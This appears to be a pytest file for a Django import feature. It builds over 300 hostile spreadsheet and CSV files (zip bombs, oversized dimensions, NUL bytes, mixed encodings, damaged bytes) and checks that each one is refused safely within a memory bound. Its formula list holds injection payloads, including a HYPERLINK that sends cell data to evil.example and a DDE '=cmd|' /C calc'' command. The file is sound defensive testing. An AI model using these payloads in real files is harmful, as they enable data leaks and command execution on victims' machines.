"""No file can hurt the server (issue 13, point 3): a corpus of hostile files, generated here.

Every file gets exit 0 or 2 from ``huifang import``, never a crash; a refused file leaves the
database as it was; the reading process never grows past the stated bound (``MEMORY_MB`` above the
server's own size, measured from the kernel's own account of each reading process).
"""

from __future__ import annotations

import codecs
import io
import logging
import random
import re
import time
import zipfile
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from django.test import Client

from huifang.conftest import Org
from huifang.customers.models import Customer
from huifang.events.models import Event, ImportBatch
from huifang.events.tests.files import EVENT_HEADER, repair, write_csv, write_xlsx

MEMORY_MB = 256  # the bound the test sets and checks; production's default is 1024

CUSTOMER_HEADER = "customer_ref,name,phone,业主电话\n"
Maker = Callable[[Path], Path]

# -- the pieces of a minimal XLSX, so that any part can be made hostile -----------------------------
_CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
    'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
    'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override '
    'PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.'
    'spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType='
    '"application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/><Override '
    'PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.'
    'spreadsheetml.sharedStrings+xml"/></Types>'
)
_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/'
    'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
    'officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>'
)
_WORKBOOK = (
    '<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/'
    'spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
_WORKBOOK_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/'
    'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
    'officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/><Relationship '
    'Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'sharedStrings" Target="sharedStrings.xml"/></Relationships>'
)
_NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'


def _inline(ref: str, text: str) -> str:
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'


def _header_row() -> str:
    cells = "".join(
        _inline(f"{col}1", name) for col, name in zip("ABC", ["customer_ref", "name", "phone"], strict=True)
    )
    return f'<row r="1">{cells}</row>'


def _sheet(body: str, dimension: str = "A1:C2") -> str:
    head = f'<?xml version="1.0" encoding="UTF-8"?><worksheet {_NS}><dimension ref="{dimension}"/>'
    return f"{head}<sheetData>{body}</sheetData></worksheet>"


def _xlsx(path: Path, sheet: str | bytes, shared: str | bytes = f"<sst {_NS}/>") -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", _CONTENT_TYPES)
        z.writestr("_rels/.rels", _RELS)
        z.writestr("xl/workbook.xml", _WORKBOOK)
        z.writestr("xl/_rels/workbook.xml.rels", _WORKBOOK_RELS)
        z.writestr("xl/worksheets/sheet1.xml", sheet)
        z.writestr("xl/sharedStrings.xml", shared)
    return path


def _good_sheet() -> str:
    row = "".join(_inline(f"{c}2", v) for c, v in zip("ABC", ["C1", "张伟", "13800001111"], strict=True))
    return _sheet(_header_row() + f'<row r="2">{row}</row>')


# -- the families of hostile files ------------------------------------------------------------------


def zip_bombs() -> Iterator[tuple[str, Maker]]:
    for mb in (2, 8, 24):
        for filler in ("row", "zeros", "spaces"):

            def make(p: Path, mb: int = mb, filler: str = filler) -> Path:
                unit = {"row": '<row r="2"><c r="A2"><v>1</v></c></row>', "zeros": "0", "spaces": " "}[filler]
                body = _header_row() + unit * (mb * (1 << 20) // len(unit))
                return _xlsx(p.with_suffix(".xlsx"), _sheet(body))

            yield f"bomb-{mb}mb-{filler}", make
    for mb in (2, 12):

        def shared_bomb(p: Path, mb: int = mb) -> Path:
            strings = "<si><t>a</t></si>" * (mb * (1 << 20) // 16)
            return _xlsx(p.with_suffix(".xlsx"), _good_sheet(), f'<sst {_NS} count="1">{strings}</sst>')

        yield f"bomb-shared-strings-{mb}mb", shared_bomb
    for parts in (2100, 5000):

        def many_parts(p: Path, parts: int = parts) -> Path:
            path = _xlsx(p.with_suffix(".xlsx"), _good_sheet())
            with zipfile.ZipFile(path, "a") as z:
                for i in range(parts):
                    z.writestr(f"junk/{i}.xml", "")
            return path

        yield f"bomb-{parts}-parts", many_parts

    def nested(p: Path) -> Path:
        inner = io.BytesIO()
        with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as z:
            z.writestr("x", b"\0" * (4 << 20))
        return _xlsx(p.with_suffix(".xlsx"), _good_sheet(), inner.getvalue())

    yield "bomb-nested-zip-as-shared-strings", nested


def huge_dimensions() -> Iterator[tuple[str, Maker]]:
    refs = ["XFD1048576", "XFD1", "A1048576", "ZZ999999", "AMK1000000", "XFD2", "BBB500000", "A99999999"]
    for ref in refs:

        def cell(p: Path, ref: str = ref) -> Path:
            body = _header_row() + f'<row r="2">{_inline(ref, "x")}</row>'
            return _xlsx(p.with_suffix(".xlsx"), _sheet(body))

        def dimension(p: Path, ref: str = ref) -> Path:
            return _xlsx(p.with_suffix(".xlsx"), _sheet(_header_row(), f"A1:{ref}"))

        def row_only(p: Path, ref: str = ref) -> Path:
            number = re.sub(r"[A-Z]", "", ref)
            return _xlsx(p.with_suffix(".xlsx"), _sheet(_header_row() + f'<row r="{number}"/>'))

        yield f"dimension-cell-{ref}", cell
        yield f"dimension-declared-{ref}", dimension
        yield f"dimension-row-{ref}", row_only
    for count in ("100000000", "4294967295", "-1", "abc"):

        def shared_count(p: Path, count: str = count) -> Path:
            shared = f'<sst {_NS} count="{count}" uniqueCount="{count}"><si><t>x</t></si></sst>'
            return _xlsx(p.with_suffix(".xlsx"), _good_sheet(), shared)

        yield f"shared-strings-count-{count}", shared_count
    for n in (20_000, 100_000):

        def many_shared(p: Path, n: int = n) -> Path:
            strings = "".join(f"<si><t>{i:08d}{'长' * 40}</t></si>" for i in range(n))
            return _xlsx(p.with_suffix(".xlsx"), _good_sheet(), f'<sst {_NS} count="{n}">{strings}</sst>')

        yield f"shared-strings-{n}", many_shared


def nuls() -> Iterator[tuple[str, Maker]]:
    for where in ("header", "row2", "row50", "end", "every-cell"):
        for encoding in ("utf-8", "gbk"):

            def make(p: Path, where: str = where, encoding: str = encoding) -> Path:
                lines = [CUSTOMER_HEADER.rstrip("\n")] + [f"C{i},张伟,1380000{i:04d}," for i in range(60)]
                if where == "header":
                    lines[0] = lines[0].replace("name", "na\0me")
                elif where == "every-cell":
                    lines = [line.replace(",", "\0,") for line in lines]
                else:
                    index = {"row2": 1, "row50": 49, "end": len(lines) - 1}[where]
                    lines[index] += "\0"
                path = p.with_suffix(".csv")
                path.write_bytes("\n".join(lines).encode(encoding))
                return path

            yield f"nul-{where}-{encoding}", make

    def xlsx_nul(p: Path) -> Path:
        body = _header_row() + f'<row r="2">{_inline("A2", "C1")}{_inline("B2", "张&#0;伟")}</row>'
        return _xlsx(p.with_suffix(".xlsx"), _sheet(body))

    yield "nul-xlsx-entity", xlsx_nul

    def xlsx_raw_nul(p: Path) -> Path:
        nul_name = _inline("B2", "张\0伟")
        body = _header_row() + f'<row r="2">{_inline("A2", "C1")}{nul_name}</row>'
        return _xlsx(p.with_suffix(".xlsx"), _sheet(body))

    yield "nul-xlsx-raw", xlsx_raw_nul


def encodings() -> Iterator[tuple[str, Maker]]:
    text = CUSTOMER_HEADER + "".join(f"C{i},欧阳娜娜,1380000{i:04d},\n" for i in range(30))
    names = [
        "utf-8",
        "utf-8-sig",
        "gbk",
        "gb18030",
        "utf-16",
        "utf-16-le",
        "utf-16-be",
        "utf-32",
        "big5",
        "shift_jis",
        "euc-kr",
        "latin-1",
        "cp1252",
        "koi8-r",
        "cp500",
        "utf-7",
        "hz",
        "iso2022_jp",
    ]
    for name in names:

        def make(p: Path, name: str = name) -> Path:
            path = p.with_suffix(".csv")
            path.write_bytes(text.encode(name, errors="replace"))
            return path

        yield f"encoding-{name}", make
    # Mixed: lines of UTF-8 and of GBK in one file, at various places.
    for first, second in (("utf-8", "gbk"), ("gbk", "utf-8"), ("utf-8", "gb18030"), ("utf-8-sig", "gbk")):
        for split in (1, 2, 15, 30):

            def mixed(p: Path, first: str = first, second: str = second, split: int = split) -> Path:
                lines = text.splitlines(keepends=True)
                data = "".join(lines[:split]).encode(first) + "".join(lines[split:]).encode(second)
                path = p.with_suffix(".csv")
                path.write_bytes(data)
                return path

            yield f"encoding-mixed-{first}-{second}-{split}", mixed

    def invalid_utf8(p: Path) -> Path:
        path = p.with_suffix(".csv")
        path.write_bytes(CUSTOMER_HEADER.encode() + b"C1,\xff\xfe\xfd,13800001111,\n")
        return path

    yield "encoding-invalid-bytes", invalid_utf8

    def bom_only(p: Path) -> Path:
        path = p.with_suffix(".csv")
        path.write_bytes(codecs.BOM_UTF8)
        return path

    yield "encoding-bom-only", bom_only


def formulas() -> Iterator[tuple[str, Maker]]:
    payloads = [
        "=1+1",
        '=HYPERLINK("http://evil.example/?"&A1,"点击")',
        "=cmd|' /C calc'!A0",
        "+13800001111",
        "-2+3",
        "@SUM(1,1)",
        '=WEBSERVICE("http://127.0.0.1/")',
        "\t=1+1",
        "=" + "A" * 5000,
        '=IMPORTXML(CONCAT("http://x/?v=", A2), "//a")',
    ]
    for i, payload in enumerate(payloads):

        def csv_file(p: Path, payload: str = payload) -> Path:
            return write_csv(
                p.with_suffix(".csv"), ["customer_ref", "name", "phone"], [["C1", payload, "13800001111"]]
            )

        def xlsx_file(p: Path, payload: str = payload) -> Path:
            return write_xlsx(
                p.with_suffix(".xlsx"), ["customer_ref", "name", "phone"], [["C1", payload, 13800001111]]
            )

        def phone_formula(p: Path, payload: str = payload) -> Path:
            return write_csv(
                p.with_suffix(".csv"), ["customer_ref", "name", "phone"], [["C1", "张伟", payload]]
            )

        yield f"formula-csv-{i}", csv_file
        yield f"formula-xlsx-{i}", xlsx_file
        yield f"formula-phone-{i}", phone_formula


def giants() -> Iterator[tuple[str, Maker]]:
    for chars in (32_767, 32_768, 131_072, 1_000_000, 5_000_000):

        def cell(p: Path, chars: int = chars) -> Path:
            return write_csv(
                p.with_suffix(".csv"),
                ["customer_ref", "name", "phone"],
                [["C1", "长" * chars, "13800001111"]],
            )

        def quoted_line(p: Path, chars: int = chars) -> Path:
            path = p.with_suffix(".csv")
            path.write_text(CUSTOMER_HEADER + 'C1,"' + "a\n" * (chars // 2) + '",13800001111,\n')
            return path

        def no_newline(p: Path, chars: int = chars) -> Path:
            path = p.with_suffix(".csv")
            path.write_text("customer_ref" + "x" * chars)
            return path

        def xlsx_cell(p: Path, chars: int = chars) -> Path:
            body = _header_row() + f'<row r="2">{_inline("A2", "C1")}{_inline("B2", "长" * chars)}</row>'
            return _xlsx(p.with_suffix(".xlsx"), _sheet(body))

        yield f"giant-cell-{chars}", cell
        yield f"giant-quoted-{chars}", quoted_line
        yield f"giant-header-{chars}", no_newline
        yield f"giant-xlsx-cell-{chars}", xlsx_cell
    for columns in (1_000, 1_025, 20_000, 200_000):

        def row(p: Path, columns: int = columns) -> Path:
            path = p.with_suffix(".csv")
            path.write_text(CUSTOMER_HEADER + "C1,张伟,13800001111," + ",x" * columns + "\n")
            return path

        def header(p: Path, columns: int = columns) -> Path:
            path = p.with_suffix(".csv")
            path.write_text("customer_ref,name,phone" + "".join(f",h{i}" for i in range(columns)) + "\n")
            return path

        yield f"giant-row-{columns}", row
        yield f"giant-header-columns-{columns}", header
    for n in (1, 5_000, 50_000):

        def rows(p: Path, n: int = n) -> Path:
            path = p.with_suffix(".csv")
            path.write_text(
                CUSTOMER_HEADER + "".join(f"G{i},张伟,139{i:08d},1380000{i % 10000:04d}\n" for i in range(n))
            )
            return path

        yield f"many-rows-{n}", rows


def several_numbers() -> Iterator[tuple[str, Maker]]:
    for i, cell in enumerate(
        [
            "13800001111;13800001112",
            "13800001111，13800001112",
            "13800001111/13800001112",
            "13800001111 13800001112",
            "13800001111\n13800001112",
        ]
    ):

        def make(p: Path, cell: str = cell) -> Path:
            return write_csv(p.with_suffix(".csv"), ["customer_ref", "name", "phone"], [["C1", "张伟", cell]])

        yield f"several-numbers-{i}", make


def damaged(seed: int = 13) -> Iterator[tuple[str, Maker]]:
    """A good workbook and a good CSV, truncated and with bytes flipped at reproducible places."""
    rnd = random.Random(seed)
    for i in range(90):
        cut = rnd.randint(1, 5000)
        flips = [(rnd.randint(0, 4000), rnd.randint(0, 255)) for _ in range(rnd.randint(1, 8))]

        def xlsx(p: Path, cut: int = cut, flips: list[tuple[int, int]] = flips, i: int = i) -> Path:
            path = write_xlsx(p.with_suffix(".xlsx"), EVENT_HEADER, [repair(n) for n in range(1, 20)])
            data = bytearray(path.read_bytes())
            if i % 2:
                data = data[: cut % len(data)]
            else:
                for at, value in flips:
                    data[at % len(data)] = value
            path.write_bytes(bytes(data))
            return path

        yield f"damaged-xlsx-{i}", xlsx
    for i in range(50):
        flips = [(rnd.randint(0, 2000), rnd.randint(0, 255)) for _ in range(rnd.randint(1, 20))]

        def csv_file(p: Path, flips: list[tuple[int, int]] = flips) -> Path:
            path = write_csv(p.with_suffix(".csv"), EVENT_HEADER, [repair(n) for n in range(1, 20)])
            data = bytearray(path.read_bytes())
            for at, value in flips:
                data[at % len(data)] = value
            path.write_bytes(bytes(data))
            return path

        yield f"damaged-csv-{i}", csv_file
    for name, data in {
        "empty": b"",
        "random": bytes(rnd.randrange(256) for _ in range(5000)),
        "ole-junk": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 4000,
        "zip-junk": b"PK\x03\x04" + b"\xff" * 4000,
        "zip-empty": b"PK\x05\x06" + b"\0" * 18,
        "deflate-stream": zlib.compress(b"0" * (1 << 20)),
    }.items():
        for suffix in (".csv", ".xlsx", ".xls"):

            def raw(p: Path, data: bytes = data, suffix: str = suffix) -> Path:
                path = p.with_suffix(suffix)
                path.write_bytes(data)
                return path

            yield f"raw-{name}{suffix}", raw


def corpus() -> list[tuple[str, Maker]]:
    families: list[Callable[[], Iterator[tuple[str, Maker]]]] = [
        zip_bombs,
        huge_dimensions,
        nuls,
        encodings,
        formulas,
        giants,
        several_numbers,
        damaged,
    ]
    return [entry for family in families for entry in family()]


def _rss_mb() -> int:
    with open("/proc/self/status") as f:
        return next(int(line.split()[1]) for line in f if line.startswith("VmRSS")) // 1024


def test_the_corpus_has_at_least_300_files() -> None:
    assert len(corpus()) >= 300


@pytest.mark.django_db(transaction=False)
def test_every_hostile_file_is_imported_or_refused_with_exit_2_within_the_memory_bound(
    org: Org, tmp_path: Path, settings: object, caplog: pytest.LogCaptureFixture
) -> None:
    settings.HUIFANG_IMPORT_MEMORY_MB = MEMORY_MB  # type: ignore[attr-defined]
    settings.HUIFANG_IMPORT_CPU_SECONDS = 20  # type: ignore[attr-defined]
    caplog.set_level(logging.INFO, logger="huifang.events.importing.reader")
    base_rss = _rss_mb()
    started = time.monotonic()
    outcomes: dict[str, int] = {}
    for number, (name, make) in enumerate(corpus()):
        path = make(tmp_path / f"{number:03d}-{name}")
        kind = "events" if name.startswith("damaged") else "customers"
        before = (Customer.objects.count(), Event.objects.count())
        try:
            call_command("import", kind, str(path), stdout=io.StringIO(), stderr=io.StringIO())
        except CommandError as exc:
            assert exc.returncode == 2, (name, str(exc))
            assert (Customer.objects.count(), Event.objects.count()) == before, name
            outcomes[name] = 2
        else:
            outcomes[name] = 0
        path.unlink()
    elapsed = time.monotonic() - started
    peaks = [int(m) for m in re.findall(r"peak memory (\d+) MB", caplog.text)]
    assert len(peaks) >= len(outcomes)  # every file was read by a bounded child
    # The reading process's peak resident size counts the pages it shares with this process, so
    # the bound is this process's own size plus the budget.
    assert max(peaks) <= base_rss + MEMORY_MB + 64, (max(peaks), base_rss)
    # What must be refused is refused.
    for name, outcome in outcomes.items():
        if name.startswith(
            ("bomb-", "nul-", "encoding-mixed", "several-numbers", "dimension-cell-XFD1048576")
        ):
            assert outcome == 2, name
    print(
        f"\n{len(outcomes)} files, {sum(1 for o in outcomes.values() if o == 2)} refused, "
        f"{elapsed:.1f} s, peak reading process {max(peaks)} MB (this process {base_rss} MB)"
    )
    # No timed assertion (the figures go to docs/performance.md): on a loaded machine the corpus
    # took over 150 s on PostgreSQL, and slowness is not what this test is about.


def test_a_hostile_stored_upload_opens_with_a_message_and_can_be_discarded(
    org: Org, tmp_path: Path, django_capture_on_commit_callbacks: Any, settings: Any
) -> None:
    settings.IMPORT_UPLOAD_DIR = tmp_path / "uploads"
    client = Client()
    client.force_login(org.east_supervisor)
    body = _header_row() + f'<row r="2">{_inline("XFD1048576", "x")}</row>'
    path = _xlsx(tmp_path / "bomb.xlsx", _sheet(body, "A1:XFD1048576"))
    with path.open("rb") as f:
        response = client.post("/settings/imports/", {"kind": "customers", "file": f})
    batch = ImportBatch.objects.get()
    assert response.status_code == 302
    page = client.get(f"/settings/imports/{batch.pk}/")
    assert page.status_code == 400
    assert "工作簿过大，无法安全导入" in page.content.decode()  # "the workbook is too large to import safely"
    stored = Path(batch.stored_path)
    assert stored.exists()
    with django_capture_on_commit_callbacks(execute=True):
        gone = client.post(f"/settings/imports/{batch.pk}/discard/")
    assert gone.status_code == 302
    batch.refresh_from_db()
    assert (batch.status, batch.stored_path) == ("rejected", "")
    assert not stored.exists()
